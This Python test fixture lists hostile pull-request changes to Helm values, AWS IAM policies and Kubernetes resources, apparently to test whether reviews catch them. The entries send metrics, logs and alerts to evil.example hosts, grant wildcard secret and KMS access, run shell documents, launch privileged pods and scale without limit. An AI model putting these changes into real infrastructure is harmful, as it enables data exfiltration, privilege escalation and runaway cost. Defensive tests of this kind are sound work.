"""What the author of a pull request adds that no list of the bad names: values of charts, identities, receivers."""

from typing import Any, Final

from tests.adversary.changes import grants, trust
from tests.adversary.independent.cloud import adds, edits
from tests.adversary.probe import Change

HERE: Final = "arn:aws:iam::444455556666:"
PROMETHEUS: Final = "kube-prometheus-stack-release"


def values(act: str, *path: Any, to: Any, name: str = PROMETHEUS) -> Change:
    return edits(act, name, "values", *path, to=to)


VALUES: Final = (
    values("binds a role by a chart's manifests", "extraManifests", to=["roleRef: x"]),
    values("adds a receiver of alerts", "alertmanager", "config", "receivers", 0, "webhook_configs", to=[
        {"url": "https://hooks.evil.example"}]),
    values("sends metrics elsewhere", "prometheus", "prometheusSpec", "remoteWrite", to=[
        {"url": "https://evil.example/write"}]),
    values("makes everybody an administrator of Grafana", "grafana", "grafana.ini", "auth.anonymous", "org_role",
           to="Admin"),
    values("puts Grafana on the internet", "grafana", "service", to={"type": "LoadBalancer"}),
    values("takes images of another registry", "prometheusOperator", "image", "registry", to="docker.io/evil"),
    values("runs another image of Karpenter", "controller", "image", "repository", to="ghcr.io/evil/karpenter",
           name="karpenter-release"),
    values("sends Karpenter to another endpoint", "settings", "clusterEndpoint", to="https://evil.example",
           name="karpenter-release"),
    values("lets Argo's server act for everybody by its mode", "server", "authModes", to=["server"],
           name="argo-workflows-release"),
    values("opens workflows of all namespaces", "controller", "clusterWorkflowTemplates", to={"enabled": True},
           name="argo-workflows-release"),
    values("sends logs to another host", "config", "outputs", to="[OUTPUT]\n    Name http\n    Host evil.example",
           name="fluent-bit-release"),
    edits("takes values of a file", PROMETHEUS, "valueYamlFiles", to=[{"path": "more.yaml"}]),
    edits("takes another chart of the same registry", "karpenter-release", "chart",
          to="oci://public.ecr.aws/karpenter/another"),
)  # fmt: skip

IDENTITIES: Final = (
    adds("attaches a policy of the account by its name", "aws:iam/rolePolicyAttachment:RolePolicyAttachment", role="r",
         policyArn=f"{HERE}policy/administrators"),
    *(
        adds(f"trusts {next(iter(who.values()))}", "aws:iam/role:Role", assumeRolePolicy=trust(Principal=who))
        for who in ({"AWS": f"{HERE}role/somebody"}, {"Service": "lambda.amazonaws.com"},
                    {"Service": "ssm.amazonaws.com"})
    ),
    *(
        adds(f"allows {action} on {place}", "aws:iam/rolePolicy:RolePolicy", role="r",
             policy=grants(action, resource=place))
        for action, place in (
            ("sts:AssumeRole", f"{HERE}role/OrganizationAccountAccessRole"),
            ("secretsmanager:GetSecretValue", "arn:aws:secretsmanager:us-east-1:444455556666:secret:*"),
            ("secretsmanager:GetSecretValue", "arn:aws:secretsmanager:us-east-1:444455556666:secret:rds!*"),
            ("kms:Decrypt", "arn:aws:kms:us-east-1:444455556666:key/*"),
            ("ssm:GetParameter", "arn:aws:ssm:us-east-1:444455556666:parameter/*"),
            ("rds-db:connect", "arn:aws:rds-db:us-east-1:444455556666:dbuser:*/*"),
            ("ssm:SendCommand", "arn:aws:ec2:us-east-1:444455556666:instance/*"),
        )
    ),
    adds("runs instances with a role of another program", "aws:iam/instanceProfile:InstanceProfile", role="admin"),
)  # fmt: skip

RECEIVERS: Final = (
    edits("runs a shell document on an event", "karpenter-spot-target", "arn",
          to="arn:aws:ssm:us-east-1::document/AWS-RunShellScript"),
    adds("adds a target that runs commands", "aws:cloudwatch/eventTarget:EventTarget", rule="r",
         arn="arn:aws:ssm:us-east-1::document/AWS-RunShellScript",
         runCommandTargets=[{"key": "tag:a", "values": ["b"]}]),
    edits("writes flow logs to another bucket", "network-flow-logs-vpc", "logDestination",
          to="arn:aws:s3:::theirs"),
    adds("tells somebody of alarms by mail", "aws:sns/topicSubscription:TopicSubscription", topic="t", protocol="email",
         endpoint="somebody@evil.example"),
    adds("tells a phone of alarms", "aws:sns/topicSubscription:TopicSubscription", topic="t", protocol="sms",
         endpoint="+10000000000"),
    adds("buys an add-on of the marketplace", "aws:eks/addon:Addon", clusterName="slipway-prod",
         addonName="somebody_operator", addonVersion="v1.0.0-eksbuild.1"),
    edits("writes access logs to another bucket", "storage-models-logging", "targetBucket", to="theirs"),
    adds("gives nodes of a size without end", "kubernetes:karpenter.sh/v1:NodePool",
         metadata={"name": "it"}, spec={"limits": {"cpu": "1000000000", "nodes": "1000000000"}, "replicas": 10**9}),
    adds("holds room for a billion pods", "kubernetes:autoscaling.x-k8s.io/v1beta1:CapacityBuffer",
         metadata={"name": "it", "namespace": "default"}, spec={"replicas": 10**9}),
    adds("scales a deployment without end", "kubernetes:autoscaling/v2:HorizontalPodAutoscaler",
         metadata={"name": "it", "namespace": "vision-serving"}, spec={"maxReplicas": 10**9}),
    adds("scales by a foreign address", "kubernetes:keda.sh/v1alpha1:ScaledObject",
         metadata={"name": "it", "namespace": "vision-serving"}, spec={"maxReplicaCount": 5, "triggers": [
             {"type": "prometheus", "metadata": {"serverAddress": "https://evil.example"}}]}),
    adds("runs privileged pods on a schedule", "kubernetes:argoproj.io/v1alpha1:CronWorkflow",
         metadata={"name": "it", "namespace": "vision-training"}, spec={"workflowSpec": {"templates": [
             {"name": "main", "container": {"image": "evil.example/x", "securityContext": {"privileged": True}}}]}}),
    adds("gives caches of images to a role", "aws:ecr/repositoryCreationTemplate:RepositoryCreationTemplate",
         prefix="x", customRoleArn=f"{HERE}role/x", repositoryPolicy=grants("ecr:*", Principal="*")),
    adds("adds a worker cluster", "kubernetes:kueue.x-k8s.io/v1beta2:MultiKueueCluster",
         metadata={"name": "it"}, spec={"kubeConfig": {"location": "evil", "locationType": "Secret"}}),
    adds("serves other hosts by a gateway", "kubernetes:gateway.networking.k8s.io/v1:Gateway",
         metadata={"name": "it", "namespace": "default"}, spec={
             "gatewayClassName": "x", "addresses": [{"value": "*"}]}),
    adds("starts a group at night", "aws:autoscaling/schedule:Schedule", autoscalingGroupName="g", maxSize=10**6,
         desiredCapacity=10**6, minSize=10**6, scheduledActionName="x"),
    adds("changes serving of all", "kubernetes:operator.knative.dev/v1beta1:KnativeServing",
         metadata={"name": "it", "namespace": "knative-serving"}, spec={"registry": {"default": "evil.example/x"}}),
)  # fmt: skip

CHANGES: Final = (*VALUES, *IDENTITIES, *RECEIVERS)
